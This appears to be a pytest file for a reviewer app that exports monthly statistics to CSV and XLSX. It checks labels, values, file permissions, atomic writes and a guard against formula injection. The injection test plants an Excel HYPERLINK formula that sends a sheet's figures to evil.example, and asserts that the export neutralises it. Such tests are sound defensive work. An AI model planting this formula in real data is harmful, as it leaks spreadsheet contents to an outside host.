"""The monthly return as CSV (UTF-8 with BOM, for Excel) and XLSX, read back and compared."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from reviewer_app.shared_db.models import Staff
from reviewer_app.stats.figures import FigureRow, figure_rows, format_value
from reviewer_app.stats.queries import MonthStatistics, month_statistics
from reviewer_app.stats.report import HEADER, ReportFormatError, report_rows, write_report
from tests.stats.world import AS_OF, NOVEMBER, World


@pytest.fixture
def blocks(sqlite_world: tuple[Engine, World]) -> list[MonthStatistics]:
    engine, world = sqlite_world
    return [
        month_statistics(engine, NOVEMBER, world.ttd, AS_OF),
        month_statistics(engine, NOVEMBER, None, AS_OF),
    ]


def by_key(rows: list[FigureRow] | tuple[FigureRow, ...]) -> dict[str, FigureRow]:
    return {r.key: r for r in rows}


def test_figure_rows_carry_every_figure_with_its_label(blocks: list[MonthStatistics]) -> None:
    rows = figure_rows(blocks[0])
    assert len({r.key for r in rows}) == len(rows)  # keys are unique
    got = by_key(rows)
    expected_values: dict[str, int | float | None] = {
        "applications.received": 5,
        "applications.approved": 2,
        "applications.rejected": 1,
        "posts.received": 12,
        "posts.approved": 5,
        "posts.rejected": 3,
        "posts.printed": 3,
        "posts.handed_over": 2,
        "reasons.post.P2_CONTENT": 1,
        "reasons.post.P3_WINDOW": 0,
        "reasons.application.E5_MISSING_DOCS": 1,
        "strikes": 2,
        "strikes.dismissed": 1,
        "suspensions": 1,
        "suspensions.lifted": 1,
        "time.application_decision.count": 3,
        "time.application_decision.median": 48.0,
        "time.application_decision.p90": 105.6,
        "time.post_decision.count": 8,
        "time.post_decision.median": 15.0,
        "time.post_decision.p90": 33.0,
        "time.handover.count": 0,
        "time.handover.median": None,
        "time.handover.p90": None,
        "backlog.under_1d.applications": 0,
        "backlog.under_1d.posts": 2,
        "backlog.over_7d.applications": 1,
        "facility.decisions": 11,
        "facility.rejection_rate": 36.4,
        "reviewer.ttd_rev1.decisions": 5,
        "reviewer.ttd_rev1.rejection_rate": 20.0,
        "reviewer.ttd_rev2.rejection_rate": 75.0,
        "reviewer.ttd_rev3.rejection_rate": 0.0,
    }
    assert {k: got[k].value for k in expected_values} == expected_values
    assert got["reviewer.ttd_rev2.rejection_rate"].facility_value == 36.4
    assert got["reviewer.ttd_rev2.rejection_rate"].item == "社工2（ttd_rev2）：退件率"
    assert got["reasons.post.P2_CONTENT"].item == "內容不符（P2）"
    assert got["reasons.post.P2_CONTENT"].section == "家庭聯絡簿未通過原因"
    assert got["backlog.under_1d.posts"].section == "待審積案（截至 2026/12/01 12:00）"
    assert format_value(36.4, "%") == "36.4%" and format_value(None, "小時") == "—"
    assert format_value(1234, "件") == "1,234" and format_value(15.0, "小時") == "15.0"


def test_csv_starts_with_a_bom_and_reads_back_the_same_rows(
    blocks: list[MonthStatistics], tmp_path: Path
) -> None:
    path = tmp_path / "2026-11.csv"
    count = write_report(path, blocks)

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "家庭聯絡簿".encode() in raw
    with path.open(encoding="utf-8-sig", newline="") as f:
        read = list(csv.reader(f))
    assert tuple(read[0]) == HEADER
    expected = [["" if c is None else str(c) for c in row] for row in report_rows(blocks)]
    assert read[1:] == expected and count == len(expected)
    ttd = [r for r in read[1:] if r[1] == "TTD"]
    everyone = [r for r in read[1:] if r[1] == "ALL"]
    assert len(ttd) + 4 == len(everyone)  # two more reviewers, two rows each
    posts_rejected = {r[1]: r[5] for r in read[1:] if r[8] == "posts.rejected"}
    assert posts_rejected == {"TTD": "3", "ALL": "4"}
    assert {r[2] for r in everyone} == {"全部機關"} and {r[0] for r in read[1:]} == {"2026-11"}
    handover_median = next(r for r in ttd if r[8] == "time.handover.median")
    assert handover_median[5] == "" and handover_median[6] == "小時"


def test_xlsx_reads_back_with_numbers_as_numbers(blocks: list[MonthStatistics], tmp_path: Path) -> None:
    path = tmp_path / "月報.XLSX"  # the suffix decides, whatever its case
    write_report(path, blocks)

    workbook = load_workbook(path, read_only=True)
    sheet = workbook["月報 2026-11"]
    read = [tuple(row) for row in sheet.iter_rows(values_only=True)]
    workbook.close()
    assert read[0] == HEADER
    assert read[1:] == list(report_rows(blocks))
    rows = {(r[1], r[8]): r for r in read[1:]}
    assert rows[("TTD", "posts.received")][5] == 12 and isinstance(rows[("TTD", "posts.received")][5], int)
    assert rows[("TTD", "time.post_decision.p90")][5] == 33.0
    assert rows[("TTD", "reviewer.ttd_rev2.rejection_rate")][5:8] == (75.0, "%", 36.4)
    assert rows[("TTD", "time.handover.median")][5] is None


def test_an_unknown_suffix_is_refused_and_writes_nothing(
    blocks: list[MonthStatistics], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ReportFormatError, match=r"\.csv 或 \.xlsx"):
        write_report(out / "report.pdf", blocks)
    assert list(out.iterdir()) == []


def test_a_failed_write_leaves_no_partial_file(blocks: list[MonthStatistics], tmp_path: Path) -> None:
    target = tmp_path / "out" / "taken.csv"
    target.mkdir(parents=True)  # a folder where the report should go: the final move fails
    with pytest.raises(OSError):
        write_report(target, blocks)
    assert [p.name for p in target.parent.iterdir()] == ["taken.csv"]


def test_an_empty_month_still_lists_every_figure(sqlite_world: tuple[Engine, World], tmp_path: Path) -> None:
    engine, world = sqlite_world
    empty = month_statistics(engine, NOVEMBER.shift(-3), world.ttd, AS_OF)
    path = tmp_path / "empty.xlsx"
    count = write_report(path, [empty])
    assert count == len(figure_rows(empty))
    workbook = load_workbook(path, read_only=True)
    values = {row[8]: row[5] for row in workbook.active.iter_rows(min_row=2, values_only=True)}
    workbook.close()
    assert values["posts.received"] == 0 and values["facility.rejection_rate"] is None
    assert values["time.post_decision.median"] is None


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_name_that_looks_like_a_formula_stays_text(
    sqlite_world: tuple[Engine, World], tmp_path: Path, suffix: str
) -> None:
    """A display name is whatever was typed at `staff add`; one starting with = + - @ must not become a
    live formula in Excel (a HYPERLINK that sends the sheet's figures away, or #NAME? instead of a name)."""
    engine, world = sqlite_world
    hostile = {
        "ttd_rev1": '=HYPERLINK("http://evil.example/?d="&F2,"社工1")',
        "ttd_rev2": "-社工2",
        "ttd_rev3": "@社工3",
    }
    with Session(engine) as s, s.begin():
        for username, name in hostile.items():
            s.execute(update(Staff).where(Staff.username == username).values(display_name=name))
    path = tmp_path / f"2026-11{suffix}"
    write_report(path, [month_statistics(engine, NOVEMBER, world.ttd, AS_OF)])

    if suffix == ".xlsx":
        sheet = load_workbook(path).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula at all
        items = [str(c.value) for c in cells if c.column == 5]
    else:
        with path.open(encoding="utf-8-sig", newline="") as f:
            read = list(csv.reader(f))
        # Excel reads a field starting with = + - @ as a formula: such text starts with a quote mark.
        assert [v for row in read for v in row if v[:1] in ("=", "+", "-", "@")] == []
        items = [row[4] for row in read]
    for name in hostile.values():
        assert any(name in item for item in items), name  # every name is still there, whole


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.skipif(os.name != "posix", reason="POSIX modes")
def test_the_report_file_is_the_users_alone(
    sqlite_world: tuple[Engine, World], tmp_path: Path, suffix: str
) -> None:
    """#19: created 0600 under the usual umask 022, also when it replaces an earlier report."""
    engine, world = sqlite_world
    path = tmp_path / f"2026-11{suffix}"
    path.write_bytes(b"an earlier one")
    os.chmod(path, 0o644)
    old = os.umask(0o022)
    try:
        write_report(path, [month_statistics(engine, NOVEMBER, world.ttd, AS_OF)])
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_every_export_uses_one_formula_guard() -> None:
    from reviewer_app.core.spreadsheet_text import spreadsheet_safe

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("王小明") == "王小明"
    assert spreadsheet_safe(-1) == -1 and spreadsheet_safe(None) == ""
